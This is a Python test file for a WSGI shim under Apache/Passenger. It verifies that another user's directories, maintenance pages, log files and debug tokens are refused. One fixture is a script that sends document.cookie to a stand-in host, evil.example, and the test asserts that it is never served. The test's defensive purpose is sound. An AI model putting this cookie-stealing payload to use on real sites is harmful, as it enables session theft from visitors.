"""Nobody else's files decide what the site runs, serves or records (issue 19.1), through real
Apache + Passenger, with two real users: the site's owner `shimsite` and a stranger `shimother`.

The review found: `[wsgi] chdir` in shimother's directory (or one anyone can write) ran
shimother's code as shimsite, `check` and every start saying OK; shimother's HTML and script were
served as the maintenance page on the site's origin; the app log and start records went into
shimother's 0666 files, which they read and appended to. Each test sets the finding up as it was
found, then shows the start refused with a page naming the path (for the owner), a plain page for
visitors, `check` failing, and nothing written into the stranger's files.
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

import pytest

from shim.runtime.layout import Site
from tests.support.accounts import OTHER_USER, PROJECT_GROUP, SITE_USER, gid, uid
from tests.support.apache import ApacheServer, Response, http_get, poll
from tests.support.sites import BASE, make_site, opt_in_owner, run_as, shared_venv, update_config, wsgi_shim

pytestmark = pytest.mark.realserver

STRANGER_APP = '''\
import os
def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [("code of shimother, running as uid %d" % os.getuid()).encode()]
'''


def strangers_dir(mode: int = 0o755) -> Path:
    """A directory of shimother's (made by shimother), which the site's user can enter."""
    top = BASE / "strangers"
    top.mkdir(mode=0o755, exist_ok=True)
    path = Path(tempfile.mkdtemp(prefix="d-", dir=top))
    path.chmod(0o755)
    os.chown(path, uid(OTHER_USER), uid(OTHER_USER))
    run_as(OTHER_USER, OTHER_USER, ["chmod", oct(mode)[2:], str(path)], check=True)
    return path


def as_stranger_write(path: Path, text: str, mode: int = 0o644) -> None:
    run_as(OTHER_USER, OTHER_USER, ["sh", "-c", 'umask 0; printf %s "$1" > "$2"; chmod "$3" "$2"',
                                    "sh", text, str(path), oct(mode)[2:]], check=True)


def serve(apache: ApacheServer, site: Site) -> str:
    return apache.serve(site.site.parent.name, site.approot, site.docroot, user=SITE_USER,
                        group=PROJECT_GROUP, python=shared_venv() / "bin" / "python")


def refused(url: str, owner: dict[str, str], code: str, named: Path) -> Response:
    """The start is refused: the owner's page names `code` and the path, a visitor's names nothing."""
    page = poll(url + "/", lambda r: r.headers.get("x-wsgi-shim") == "error", timeout=30, headers=owner)
    assert page.status == 500 and f"[{code}]" in page.body and str(named) in page.body, page.body[:3000]
    visitor = http_get(url + "/")
    assert visitor.status == 500 and code not in visitor.body and str(named) not in visitor.body
    assert "shimother" not in visitor.body
    return page


def check_fails(site: Site, code: str, named: Path) -> None:
    out = wsgi_shim("check", str(site.site))
    assert out.returncode == 1 and f"[{code}]" in out.stdout and str(named) in out.stdout, out.stdout


def test_chdir_in_a_strangers_directory_is_refused(apache: ApacheServer, site_venv: Path) -> None:
    code = strangers_dir()
    as_stranger_write(code / "app.py", STRANGER_APP)
    site = make_site("chdir-foreign")
    owner = opt_in_owner(site)
    update_config(site, {"wsgi": {"chdir": str(code)}})
    url = serve(apache, site)
    refused(url, owner, "owner-foreign", code)
    assert "code of shimother" not in http_get(url + "/").body
    check_fails(site, "owner-foreign", code)


def test_chdir_through_a_link_into_a_directory_anyone_can_write(apache: ApacheServer, site_venv: Path) -> None:
    site = make_site("chdir-writable")
    owner = opt_in_owner(site)
    shared = site.site / "shared-code"
    shared.mkdir()
    os.chown(shared, uid(), uid())
    shared.chmod(0o777)  # not sticky: anyone can replace app.py
    as_stranger_write(shared / "app.py", STRANGER_APP)
    os.symlink(shared, site.approot / "code")
    os.lchown(site.approot / "code", uid(), uid())
    update_config(site, {"wsgi": {"chdir": "code"}})
    url = serve(apache, site)
    page = refused(url, owner, "path-writable", shared)
    assert "writable by everyone" in page.body
    check_fails(site, "path-writable", shared)


def test_a_strangers_maintenance_page_is_never_served(apache: ApacheServer, site_venv: Path) -> None:
    pages = strangers_dir()
    script = "<script>fetch('//evil.example/?c='+document.cookie)</script>"
    as_stranger_write(pages / "maint.html", f"<html><body>{script}</body></html>")
    site = make_site("maint-foreign", maint=True)
    update_config(site, {"maintenance": {"page": str(pages / "maint.html")}})
    url = serve(apache, site)
    r = poll(url + "/", lambda r: r.headers.get("x-wsgi-shim") == "maintenance", timeout=30)
    assert r.status == 503 and "evil.example" not in r.body and "<script" not in r.body
    check_fails(site, "owner-foreign", pages)


def test_the_log_and_start_records_never_go_into_a_strangers_files(apache: ApacheServer,
                                                                   site_venv: Path) -> None:
    logs = strangers_dir()
    for name in ("app.log", "starts.jsonl"):
        as_stranger_write(logs / name, "", 0o666)
    site = make_site("log-foreign")
    owner = opt_in_owner(site)
    update_config(site, {"logging": {"file": str(logs / "app.log")}})
    url = serve(apache, site)
    refused(url, owner, "owner-foreign", logs)
    assert (logs / "app.log").stat().st_size == 0 and (logs / "starts.jsonl").stat().st_size == 0
    check_fails(site, "owner-foreign", logs)


def test_a_strangers_file_in_the_sites_own_log_directory_is_refused(apache: ApacheServer,
                                                                     site_venv: Path) -> None:
    """Left there while logs/ was open to others (or put there by root for them): refused."""
    site = make_site("logfile-foreign")
    owner = opt_in_owner(site)
    log = site.approot / "logs" / "app.log"
    log.parent.mkdir(exist_ok=True)
    log.write_text("")
    log.chmod(0o666)
    os.chown(log, uid(OTHER_USER), uid(OTHER_USER))
    url = serve(apache, site)
    refused(url, owner, "owner-foreign", log)
    assert log.stat().st_size == 0
    check_fails(site, "owner-foreign", log)


def test_a_strangers_debug_token_opens_nothing(apache: ApacheServer, site_venv: Path) -> None:
    """shimother's token file, readable by the site through its project group (root set it up
    so): whoever owns it would choose who sees the site's tracebacks."""
    tokens = strangers_dir()
    stolen = "strangers-token-0123456789abcdef"
    as_stranger_write(tokens / "token", stolen, 0o600)
    os.chown(tokens / "token", uid(OTHER_USER), gid())
    (tokens / "token").chmod(0o640)
    site = make_site("token-foreign", app_source={"app.py": "raise RuntimeError('broken at import')\n"})
    update_config(site, {"logging": {"debug_token_file": str(tokens / "token")}})
    url = serve(apache, site)
    page = poll(url + "/", lambda r: r.headers.get("x-wsgi-shim") == "error", timeout=30,
                headers={"X-Shim-Debug-Token": stolen})
    assert "owner-foreign" not in page.body and "broken at import" not in page.body, page.body[:2000]
    assert str(tokens) not in page.body
    check_fails(site, "owner-foreign", tokens)
    out = wsgi_shim("check", str(site.site)).stdout
    assert "[debug-token-unusable]" in out and f"is owned by {OTHER_USER}" in out, out


def test_an_unreadable_tmp_is_named_with_its_fix(apache: ApacheServer, site_venv: Path) -> None:
    """Issue 19.6: tmp/ at mode 000 made the start fail as "wsgi-shim itself failed" without
    naming tmp/ or the permission."""
    site = make_site("tmp-000")
    owner = opt_in_owner(site)
    site.tmp.chmod(0o000)
    url = serve(apache, site)
    page = refused(url, owner, "tmp-unreadable", site.tmp)
    assert "d---------" in page.body and f"chmod 700 {site.tmp}" in page.body
    assert "shim-internal" not in page.body
    check_fails(site, "tmp-unreadable", site.tmp)
    site.tmp.chmod(0o700)
    assert wsgi_shim("restart", str(site.site)).returncode == 0
    poll(url + "/", lambda r: r.status == 200 and r.body == "hello from the app", timeout=30)
